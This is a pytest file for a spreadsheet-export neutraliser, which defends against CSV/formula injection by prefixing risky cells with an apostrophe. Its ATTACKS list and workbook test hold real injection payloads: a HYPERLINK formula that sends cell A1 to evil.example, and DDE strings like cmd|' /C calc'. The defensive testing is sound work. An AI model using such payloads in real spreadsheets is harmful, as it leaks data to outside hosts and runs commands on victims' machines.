"""Formula neutralising of every spreadsheet export (OWASP CSV injection; issue 10 finding 4)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from hotline.core.spreadsheet import neutralise, neutralise_row, xlsx_bytes

ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(A1)",
    "=1", "-", "+", "@张三",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+8613800138000", "-1e5", "0.25", "2026-10-08T09:00:00+08:00",
                                   "张三", "", "a=b", " =1", 3, -2.5, None, True])  # fmt: skip
def test_numbers_and_harmless_texts_are_left_alone(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralise_row(["8001", "=1+1", -3, "-3"]) == ["8001", "'=1+1", -3, "-3"]


def test_no_cell_of_a_saved_workbook_is_a_formula():
    wb = Workbook()
    ws = wb.active
    ws.append(["工号", "姓名", "得分"])
    ws.append(["8001", '=HYPERLINK("http://evil.example","x")', 95.5])
    ws.cell(row=3, column=2, value="@SUM(1+1)")
    wb.create_sheet("二").append(["-1+cmd|' /C calc'!A0", -7])
    back = load_workbook(io.BytesIO(xlsx_bytes(wb)))
    cells = [c for s in back.worksheets for row in s.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert back.active["B2"].value == '\'=HYPERLINK("http://evil.example","x")'
    assert back.active["B3"].value == "'@SUM(1+1)" and back.active["C2"].value == 95.5
    assert back["二"]["A1"].value.startswith("'-") and back["二"]["B1"].value == -7
